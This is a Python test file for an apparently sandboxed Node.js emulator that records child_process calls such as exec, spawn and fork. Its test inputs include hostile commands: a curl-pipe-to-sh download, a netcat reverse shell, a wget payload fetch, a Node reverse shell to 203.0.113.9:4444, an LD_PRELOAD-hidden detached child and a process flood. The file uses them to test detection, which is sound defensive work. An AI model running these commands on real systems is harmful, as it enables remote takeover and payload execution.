"""The module child_process: commands are recorded, and give what a made-up shell would."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from .node_runs import Node, playing_node


@pytest.fixture(scope="module")
def node(outlives_tests: None) -> Iterator[Node]:
    with playing_node() as playing:
        yield playing


def test_exec_calls_back_with_what_the_command_prints(node: Node) -> None:
    source = """
      require("child_process").exec("whoami", (e, out) => say(e, out.trim() === process.env.USER));
    """
    assert node.said(source) == "[[null,true]]"


@pytest.mark.parametrize(
    ("call", "line"),
    [
        ("exec('curl http://x.example/a | sh')", "curl http://x.example/a | sh"),
        ("execSync('id')", "id"),
        ("execFile('/tmp/x', ['-q', 'a b'])", '/tmp/x -q "a b"'),
        ("execFileSync('id', ['-u'])", "id -u"),
        ("spawn('nc', ['-e', '/bin/sh', '10.0.0.1', '4444'])", "nc -e /bin/sh 10.0.0.1 4444"),
        ("spawnSync('ls', ['-la'])", "ls -la"),
        ("fork('./w.js', ['x'])", "/usr/bin/node ./w.js x"),
    ],
)
def test_each_way_of_starting_a_program_is_recorded(node: Node, call: str, line: str) -> None:
    effects = node.effects(f"require('child_process').{call}")
    assert ("process", "run", line) in effects


def test_what_a_shell_downloads_is_recorded_as_its_own(node: Node) -> None:
    effects = node.effects("require('child_process').execSync('wget -O /tmp/m http://x.example/m')")
    assert ("network", "GET", "http://x.example/m") in effects
    assert ("file", "write", "/tmp/m") in effects


def test_a_child_tells_its_life_in_nodes_order(node: Node) -> None:
    source = """
      const child = require("child_process").spawn("echo", ["hi"]);
      for (const type of ["spawn", "exit", "close"]) child.on(type, (code) => say(type));
      child.stdout.on("data", (chunk) => say(String(chunk)));
      say(typeof child.pid, child.spawnargs.join(" "));
    """
    assert node.said(source) == '[["number","echo hi"],"spawn","hi\\n","exit","close"]'


def test_options_that_hide_a_child_are_told(node: Node) -> None:
    source = """
      require("child_process").spawn("/tmp/x", [], { detached: true, stdio: "ignore",
        windowsHide: true,
        cwd: "/tmp", env: { ...process.env, LD_PRELOAD: "/tmp/e.so" } }).unref();
    """
    (effect,) = node.run(source).side_effects
    details = dict(effect.details)
    assert details["detached"] == "true"
    assert details["hidden"] == "true"
    assert (details["cwd"], details["env: LD_PRELOAD"]) == ("/tmp", "/tmp/e.so")


def test_a_reverse_shell_gets_its_commands_run(node: Node) -> None:
    source = """
      const shell = require("child_process").spawn("/bin/sh", []);
      const line = require("net").connect(4444, "203.0.113.9", () => {
        line.pipe(shell.stdin); shell.stdout.pipe(line);
        shell.stdin.write("whoami\\n");
      });
    """
    effects = node.effects(source)
    assert ("network", "connect", "tcp://203.0.113.9:4444") in effects
    assert ("process", "run", "whoami") in effects
    assert ("network", "send", "tcp://203.0.113.9:4444") in effects


def test_exec_as_a_promise_has_both_outputs(node: Node) -> None:
    source = """
      const { promisify } = require("util"), { exec } = require("child_process");
      promisify(exec)("echo out").then(({ stdout, stderr }) => say(stdout, stderr));
    """
    assert node.said(source) == '[["out\\n",""]]'


def test_where_nothing_may_run_a_command_fails_as_in_node(node: Node) -> None:
    source = """
      const cp = require("child_process");
      try { cp.execSync("id") } catch (e) { say(e.status, e.message.split("\\n")[0],
        typeof e.stderr) }
      cp.exec("id", (e) => say(e.code, e.killed));
      cp.spawn("/tmp/x").on("error", (e) => say(e.code, e.syscall, e.path));
      say(cp.spawnSync("/tmp/x").error.code);
    """
    said = node.said(source, answers={"shell": "error"})
    assert said == (
        '[[126,"Command failed: id","object"],"EACCES",'
        '["EACCES","spawn /tmp/x","/tmp/x"],[126,false]]'
    )


@pytest.mark.parametrize("call", ["exec()", "spawn(5)", "execSync({})", "execFile(null)"])
def test_a_command_that_is_no_text_is_refused(node: Node, call: str) -> None:
    assert node.thrown(f"require('child_process').{call}")[1] == "ERR_INVALID_ARG_TYPE"


def test_a_flood_of_children_is_recorded_and_stays_small(node: Node) -> None:
    source = """
      const { spawn } = require("child_process"), all = new Set();
      for (let i = 0; i < 6000; i++) all.add(spawn("flood"));
      all.size
    """
    result = node.run(source)
    assert result.value == 5000
    assert result.side_effects[0].times == 6000
